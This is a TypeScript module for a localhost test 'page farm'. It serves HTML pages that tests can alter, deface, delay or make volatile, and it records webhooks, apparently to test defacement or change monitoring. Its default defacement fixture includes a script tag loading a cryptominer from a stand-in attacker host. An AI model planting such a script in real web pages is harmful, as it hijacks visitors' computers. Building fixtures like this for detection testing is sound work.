/**
 * A loopback page farm for tests, benchmarks and demos: serves real pages
 * (the htmlparser-benchmark corpus) or given HTML at paths like `/p/<n>`,
 * and lets a test or a person change each page at run time: replace its
 * body, inject a defacement, switch benign volatility (a fresh nonce and
 * clock on every request) on or off, set its status code and delay. It also
 * records webhooks POSTed to `/_webhook`.
 *
 * Control API (for curl and scripts; `<page>` is a number for `/p/<n>` or
 * a path): `PUT /_control/pages/<page>` with an HTML body sets a page,
 * `POST /_control/deface/<page>` injects a defacement (or puts the request
 * body in place when one is given), `POST /_control/restore/<page>` puts the
 * original back (status 200, no delay, no volatility),
 * `POST /_control/status/<page>?code=500`, `POST /_control/delay/<page>?ms=200`,
 * `POST /_control/volatile/<page>?on=1`, `POST /_control/churn?on=1` (every
 * volatile response also names a random server, a word, in its clock line:
 * the page's words change on every request, not only its numbers and
 * tokens), `GET /_control/webhooks`.
 *
 * @since 0.1.0
 */
import { Effect, type Scope } from "effect"
import { randomBytes } from "node:crypto"
import { readdirSync, readFileSync } from "node:fs"
import { createServer, type Server } from "node:http"
import { createRequire } from "node:module"
import type { AddressInfo } from "node:net"
import { dirname, join } from "node:path"
import { readBody, type ReceivedWebhook, recorder } from "./WebhookReceiver.js"

export type { ReceivedWebhook } from "./WebhookReceiver.js"

/**
 * One page of the farm.
 *
 * @since 0.1.0
 */
export interface FarmPage {
  html: string
  status: number
  delayMs: number
  /** a fresh nonce and clock are injected into every response */
  volatile: boolean
  original: string
}

/**
 * A running farm.
 *
 * @since 0.1.0
 */
export interface PageFarm {
  readonly port: number
  readonly baseUrl: string
  /** the absolute URL of a path */
  readonly url: (path: string) => string
  /** the paths of the pages the farm was started with, in order */
  readonly paths: ReadonlyArray<string>
  readonly set: (path: string, html: string) => void
  readonly status: (path: string, code: number) => void
  readonly delay: (path: string, ms: number) => void
  /** injects the standard defacement, or puts `html` in place */
  readonly deface: (path: string, html?: string) => void
  /** the original body, status 200, no delay, no volatility */
  readonly restore: (path: string) => void
  readonly volatile: (path: string, on: boolean) => void
  /** webhooks received at `/_webhook` */
  readonly webhooks: ReadonlyArray<ReceivedWebhook>
  /** requests served, per path */
  readonly hits: (path: string) => number
  readonly close: () => Promise<void>
}

/**
 * Options of a farm: the port (0 = any free port), pages by path, and/or
 * `sample` generated pages or `corpus` real pages at `/p/0` … `/p/<n-1>`.
 *
 * @since 0.1.0
 */
export interface FarmOptions {
  readonly port?: number
  readonly pages?: Record<string, string>
  /** this many small generated pages (`samplePage`) at `/p/<n>` */
  readonly sample?: number
  /** this many corpus pages (cycling through the 258) at `/p/<n>` */
  readonly corpus?: number
  /** every page starts volatile (a fresh nonce and clock in every response) */
  readonly volatile?: boolean
}

/**
 * The path of the n-th numbered page.
 *
 * @since 0.1.0
 */
export const pathOf = (n: number): string => `/p/${n}`

/**
 * A page with a realistic shape (navigation, scripts, styles, text).
 *
 * @since 0.1.0
 */
export const samplePage = (n: number): string => `<!doctype html>
<html><head><title>Example site page ${n}</title>
<link rel="stylesheet" href="/static/site.css">
<script src="/static/app.js"></script></head>
<body><div class="nav"><a href="/">Home</a> <a href="/about">About</a> <a href="/contact">Contact</a></div>
<div class="main"><h1>Welcome to page ${n}</h1>
<p>Our company has served customers since 1998 with reliable products and friendly support.</p>
<p>Read the latest news about our services, our team and the communities we work with every day.</p>
<p>Call us on +1 555 010 ${String(1000 + n).slice(-4)} or write to the office for any question about your order.</p>
<img src="/static/logo.png" alt="logo"></div>
<div class="footer"><a href="/privacy">Privacy</a> <a href="/terms">Terms</a></div></body></html>`

/**
 * What `deface` does to a page by default: the classic signed defacement.
 *
 * @since 0.1.0
 */
export const defacement = `<!doctype html><html><head><title>HACKED BY x0r</title></head>
<body style="background:black"><h1>Hacked by x0r</h1><p>Your security is low. Greetz to all.</p>
<script src="https://evil.example.net/miner.js"></script></body></html>`

let corpusCache: ReadonlyArray<string> | undefined

/**
 * The 258 real pages of the htmlparser-benchmark corpus, in file-name order.
 *
 * @since 0.1.0
 */
export const corpusPages = (): ReadonlyArray<string> => {
  if (corpusCache === undefined) {
    const require = createRequire(import.meta.url)
    const dir = join(dirname(require.resolve("htmlparser-benchmark/package.json")), "files")
    corpusCache = readdirSync(dir).filter((f) => f.endsWith(".html")).sort().map((f) => readFileSync(join(dir, f), "utf8"))
  }
  return corpusCache
}

// What a reload of a real page changes: a CSRF nonce and a clock. Both are
// benign; a baseline of several samples must absorb them.
// Where the nonce and the clock go in a page, found once per document: the
// farm stands in for remote servers, so its own cost stays small.
const cuts = new Map<string, readonly [number, number]>()
const cutsOf = (html: string): readonly [number, number] => {
  let c = cuts.get(html)
  if (c === undefined) {
    if (cuts.size >= 10_000) cuts.clear()
    c = [html.search(/<\/head>/i), html.search(/<\/body>/i)]
    cuts.set(html, c)
  }
  return c
}

// What a churning page names in its clock line: a word that changes on every request.
const servers = ["amber", "birch", "cedar", "delta", "ember", "fjord", "grove", "harbor", "iris", "juniper", "kestrel", "lumen", "maple", "nova", "onyx", "prairie"]

const withVolatility = (html: string, churn: boolean): string => {
  const nonce = randomBytes(12).toString("hex")
  const head = `<meta name="csrf-token" content="${nonce}">`
  const by = churn ? `, served by ${servers[randomBytes(1)[0]! % servers.length]}` : ""
  const clock = `<p class="generated">Page generated at ${new Date().toISOString()} (request ${nonce.slice(0, 6)}${by})</p>`
  const [h, b] = cutsOf(html)
  if (h === -1 || b === -1 || b < h) {
    const withHead = h === -1 ? head + html : html.slice(0, h) + head + html.slice(h)
    const at = withHead.search(/<\/body>/i)
    return at === -1 ? withHead + clock : withHead.slice(0, at) + clock + withHead.slice(at)
  }
  return html.slice(0, h) + head + html.slice(h, b) + clock + html.slice(b)
}

/**
 * Starts a farm on 127.0.0.1.
 *
 * @since 0.1.0
 */
export const start = (options: FarmOptions = {}): Promise<PageFarm> =>
  new Promise((resolve, reject) => {
    const pages = new Map<string, FarmPage>()
    const hits = new Map<string, number>()
    const webhooks: Array<ReceivedWebhook> = []
    const hooks = recorder(webhooks)
    // volatile pages also name a random server (a word) in their clock line
    let churn = false
    const put = (path: string, html: string) => {
      const existing = pages.get(path)
      pages.set(path, {
        html,
        status: existing?.status ?? 200,
        delayMs: existing?.delayMs ?? 0,
        volatile: existing?.volatile ?? options.volatile === true,
        original: html
      })
    }
    const sources = options.corpus === undefined ? [] : corpusPages()
    for (let i = 0; i < (options.sample ?? 0); i++) put(pathOf(i), samplePage(i))
    for (let i = 0; i < (options.corpus ?? 0); i++) put(pathOf(i), sources[i % sources.length]!)
    for (const [path, html] of Object.entries(options.pages ?? {})) put(path, html)
    const paths = [...pages.keys()]

    const page = (path: string) => {
      const p = pages.get(path)
      if (p === undefined) throw new Error(`no page at ${path}`)
      return p
    }
    const ops = {
      deface: (path: string, html?: string) => {
        page(path).html = html === undefined || html.length === 0 ? defacement : html
      },
      restore: (path: string) => {
        const p = page(path)
        p.html = p.original
        p.status = 200
        p.delayMs = 0
        p.volatile = false
      }
    }

    const server: Server = createServer(async (req, res) => {
      const url = new URL(req.url ?? "/", "http://farm")
      const path = url.pathname
      if (path === "/_webhook") return hooks.handle(req, res)
      if (path.startsWith("/_control/")) {
        const [, , action, ...rest] = path.split("/")
        const target = rest.length === 1 && /^\d+$/.test(rest[0]!) ? pathOf(Number(rest[0])) : "/" + rest.join("/")
        try {
          if (action === "webhooks") {
            res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(webhooks))
            return
          }
          if (action === "pages" && req.method === "PUT") put(target, await readBody(req))
          else if (action === "deface") ops.deface(target, await readBody(req))
          else if (action === "restore") ops.restore(target)
          else if (action === "status") page(target).status = Number(url.searchParams.get("code") ?? 200)
          else if (action === "delay") page(target).delayMs = Number(url.searchParams.get("ms") ?? 0)
          else if (action === "volatile") page(target).volatile = url.searchParams.get("on") !== "0"
          else if (action === "churn") churn = url.searchParams.get("on") !== "0"
          else {
            res.writeHead(404, { "content-type": "text/plain" }).end(`unknown control ${action}`)
            return
          }
          res.writeHead(204).end()
        } catch (e) {
          res.writeHead(404, { "content-type": "text/plain" }).end(String(e))
        }
        return
      }
      hits.set(path, (hits.get(path) ?? 0) + 1)
      const p = pages.get(path)
      // static files are empty unless one was set (a stylesheet to deface a page with)
      if (p === undefined && path.startsWith("/static/")) {
        res.writeHead(200, { "content-type": "text/plain" }).end("")
        return
      }
      if (p === undefined) {
        res.writeHead(404, { "content-type": "text/html" }).end("<h1>not found</h1>")
        return
      }
      // a stylesheet of the farm (a page set at `*.css`) is served as one, so a browser applies it
      const type = path.endsWith(".css") ? "text/css; charset=utf-8" : "text/html; charset=utf-8"
      const send = () => res.writeHead(p.status, { "content-type": type }).end(p.volatile ? withVolatility(p.html, churn) : p.html)
      if (p.delayMs > 0) setTimeout(send, p.delayMs)
      else send()
    })
    server.keepAliveTimeout = 5000
    server.on("error", reject)
    server.listen(options.port ?? 0, "127.0.0.1", () => {
      const port = (server.address() as AddressInfo).port
      const baseUrl = `http://127.0.0.1:${port}`
      resolve({
        port,
        baseUrl,
        url: (path) => `${baseUrl}${path}`,
        paths,
        set: put,
        status: (path, code) => {
          page(path).status = code
        },
        delay: (path, ms) => {
          page(path).delayMs = ms
        },
        deface: ops.deface,
        restore: ops.restore,
        volatile: (path, on) => {
          page(path).volatile = on
        },
        webhooks,
        hits: (path) => hits.get(path) ?? 0,
        close: () =>
          new Promise<void>((done) => {
            server.closeAllConnections()
            server.close(() => done())
          })
      })
    })
  })

/**
 * A farm for the life of the scope.
 *
 * @since 0.1.0
 */
export const make = (options: FarmOptions = {}): Effect.Effect<PageFarm, never, Scope.Scope> =>
  Effect.acquireRelease(Effect.promise(() => start(options)), (farm) => Effect.promise(() => farm.close()))
